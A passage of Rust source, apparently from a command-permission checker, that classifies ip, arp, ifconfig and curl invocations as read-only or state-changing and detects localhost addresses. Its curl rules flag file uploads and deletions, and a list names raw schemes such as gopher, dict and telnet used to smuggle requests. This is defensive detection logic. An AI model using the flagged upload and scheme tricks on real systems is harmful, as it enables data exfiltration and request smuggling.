        rest.len() > authority.len() || host.contains(':') || url.contains("://") && host.len() == rest.len();
    if host.starts_with(':') || rest.starts_with('/') && !url.contains("://") {
        return host.len() > 1;
    }
    let name = if host.starts_with('[') {
        host.split(']').next().unwrap_or("").trim_start_matches('[')
    } else {
        host.split(':').next().unwrap_or("")
    };
    complete
        && (matches!(name, "localhost" | "0.0.0.0" | "::1" | "host.docker.internal")
            || name.ends_with(".localhost")
            || loopback(name))
        || matches!(host, "localhost" | "127.0.0.1")
}

fn loopback(name: &str) -> bool {
    name.starts_with("127.") && name.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

fn address(words: &dyn Words, kinds: &[&str]) -> bool {
    (0..words.count()).any(|i| {
        let lower = words.start(i).to_ascii_lowercase();
        // `A!!B` is two addresses.
        lower.split("!!").any(|part| kinds.iter().any(|kind| part.starts_with(kind)))
    })
}

/// An object alone, or an object and a word that asks.
fn ip_changes(words: &dyn Words) -> bool {
    const ASKS: &[&str] = &[
        "show", "sh", "s", "list", "ls", "lst", "l", "get", "help", "status", "info", "link", "dump", "stats", "pids",
        "identify", "scan",
    ];
    const FLAGS: &str = "-4 -6 -0 -B -M -br -brief -c -color -d -details -h -human -human-readable -iec -j -json -l -loops -N -numeric -n -netns -o -oneline -p -pretty -r -resolve -s -statistics -stats -t -timestamp -ts -f -family -fields -terse -colors -mode -m -a -all -e -escape -g -get-values -Numeric -i -u -J -P -V -Version -version";
    let asks = |i: usize| words.operand(i).is_some_and(|o| ASKS.contains(&o));
    let known = words.operand(0).is_some_and(|o| {
        !matches!(
            o,
            "up" | "down"
                | "genkey"
                | "genpsk"
                | "flush"
                | "reload"
                | "off"
                | "on"
                | "block"
                | "unblock"
                | "edit"
                | "set"
        )
    });
    let reads = match words.count() {
        0 => true,
        1 => known,
        2 => known && (asks(1) || asks(0)),
        _ => known && (asks(1) || asks(2) && !words.has("--")) && !(0..words.count()).any(|i| acts(words.operand(i))),
    };
    !(reads && words.only(FLAGS))
}

fn acts(word: Option<&str>) -> bool {
    matches!(
        word,
        None | Some(
            "add"
                | "del"
                | "delete"
                | "set"
                | "flush"
                | "change"
                | "replace"
                | "exec"
                | "connect"
                | "disconnect"
                | "up"
                | "down"
                | "modify"
                | "off"
                | "on"
        )
    )
}

fn arp_reads(words: &dyn Words) -> bool {
    let asks = words
        .operand(0)
        .is_none_or(|o| o.starts_with("get") || o == "/all" || words.count() == 1 && o != "set" && o != "waitall");
    words.only("-a -n -v -e -i -H -l -x -A") && asks && words.count() <= 2 && words.operand(0) != Some("set")
}

fn ifconfig_reads(words: &dyn Words) -> bool {
    let only = words.count() == 0
        || words.count() == 1
            && !matches!(words.operand(0), None | Some("up" | "down" | "add" | "del" | "flush" | "change"));
    only && !words.has("-f --config -r --release -x")
}

/// Whether a request deletes, or sends a file along: nobody gets that back.
fn curl_final(words: &dyn Words) -> bool {
    const METHODS: &[&str] = &["", "POST", "PUT", "PATCH", "GET", "HEAD", "OPTIONS"];
    let file = |v: &str| v.starts_with('@') || v.contains("=@") || v.contains("=<");
    words.has("-T --upload-file -Q --quote --mail-rcpt")
        || words.any("-X --request", &|v| !METHODS.contains(&v.to_ascii_uppercase().as_str()))
        || words.any("-d --data --data-ascii --data-binary --data-urlencode --json -F --form", &file)
}

/// Schemes by which the address is what is sent.
const RAW: [&str; 8] = ["gopher", "gophers", "telnet", "dict", "smtp", "smtps", "ldap", "mqtt"];

fn starts(address: &str, scheme: &str) -> bool {
    address.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
        && address.get(scheme.len()..).is_some_and(|rest| rest.starts_with("://"))
}
